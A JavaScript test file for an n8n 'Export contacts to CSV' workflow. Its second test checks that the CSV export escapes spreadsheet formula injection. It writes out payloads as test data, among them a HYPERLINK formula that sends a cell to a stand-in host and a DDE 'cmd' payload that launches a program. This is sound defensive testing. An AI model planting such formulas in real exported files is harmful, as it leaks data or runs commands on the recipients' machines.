import assert from 'node:assert/strict';
import { test } from 'node:test';

import { parse } from 'csv-parse/sync';

import { startSandbox } from '../../../scripts/lib/sandbox.mjs';
import { outputOf } from '../../../scripts/n8n-server/client/index.mjs';
import { CREDENTIAL_TYPE } from '../../../scripts/n8n-server/demo.mjs';
import { importCopy } from '../support/examples/exampleCopy.mjs';
import { runExample } from '../support/examples/runExample.mjs';
import { connect } from '../support/session.mjs';

const { n8n, sandbox } = connect();

test('the workflow "Export contacts to CSV" makes a file with exactly the contacts of the service', async () => {
	const execution = await runExample(n8n, 'export-contacts-to-csv.json');

	const [item] = outputOf(execution, 'Convert to CSV');
	const file = item?.binary?.['data'];
	assert.ok(file);
	assert.equal(file.fileName, 'contacts.csv');
	const rows = parse(await n8n.readFile(file), { bom: true, columns: true });
	const contacts = await sandbox.list('/v1/customers');
	assert.ok(contacts.length > 100, 'more than one page is needed for a test of paging');
	assert.deepEqual(
		rows,
		// A CSV file knows only text.
		contacts.map((contact) =>
			Object.fromEntries(Object.entries(contact).map(([name, value]) => [name, String(value)])),
		),
	);
});

test('no customer can write a formula into a cell, and no text is lost by that', async (t) => {
	const formulas = [
		'=HYPERLINK("http://example.test/?x="&A1,"Pay")',
		"+1+cmd|' /C calc'!A0",
		'-2+3',
		'@SUM(A1:A9)',
		'\t=1+1',
		'\r=1+1',
		' =1+1',
		'＝1+1',
		"'=1+1",
		'+351 912 345 678 =1+1',
	];
	const plain = ['+351 912 345 678', '+351912345678', '+1 (555) 010-0100', "O'Neill", 'a=b', ''];
	const values = [...formulas, ...plain];
	const service = await startSandbox({ counts: { customers: values.length } });
	t.after(() => service.close());
	for (const [index, contact] of service.store.customers.all().entries())
		contact.last_name = values[index] ?? '';
	const api = await n8n.createCredential({
		name: t.name,
		type: CREDENTIAL_TYPE,
		data: { baseUrl: service.url, apiKey: service.apiKey },
	});
	const flow = await importCopy(t, n8n, 'export-contacts-to-csv.json', {
		credentials: { [CREDENTIAL_TYPE]: api },
	});
	const execution = await flow.run('When clicking ‘Execute workflow’');
	const [item] = outputOf(execution, 'Convert to CSV');
	const file = item?.binary?.['data'];
	assert.ok(file);
	/** @type {Record<string, string>[]} */
	const rows = parse(await n8n.readFile(file), { bom: true, columns: true });
	const cells = rows.map((row) => row['last_name']);
	assert.deepEqual(cells.sort(), [...formulas.map((text) => `'${text}`), ...plain].sort());
});
